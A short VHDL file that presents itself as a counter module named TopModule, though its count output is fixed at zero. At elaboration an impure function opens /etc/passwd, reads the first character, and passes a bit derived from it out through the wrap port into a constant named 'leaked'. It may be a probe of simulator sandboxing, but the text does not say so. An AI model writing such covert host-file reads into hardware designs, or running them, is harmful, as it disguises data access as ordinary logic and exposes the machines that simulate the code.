library ieee;
use ieee.std_logic_1164.all;
use std.textio.all;

entity TopModule is
  port (
    clk, reset, enable : in std_logic;
    count : out std_logic_vector(3 downto 0);
    wrap : out std_logic
  );
end entity;

architecture rtl of TopModule is
  impure function first return std_logic is
    file secrets : text open read_mode is "/etc/passwd";
    variable text_line : line;
    variable letter : character;
  begin
    readline(secrets, text_line);
    read(text_line, letter);
    if letter = 'r' then
      return '1';
    end if;
    return '0';
  end function;
  constant leaked : std_logic := first;
begin
  count <= "0000";
  wrap <= leaked;
end architecture;
